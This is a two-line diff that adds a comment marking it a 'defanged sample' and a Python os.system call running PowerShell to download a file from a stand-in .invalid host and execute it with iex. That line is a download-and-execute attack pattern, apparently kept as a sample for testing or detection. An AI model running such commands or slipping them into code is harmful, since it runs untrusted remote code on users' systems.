@@ -1,0 +1,2 @@
+# defanged sample
+os.system('powershell -c "iwr https://a.example.invalid/x | iex"')
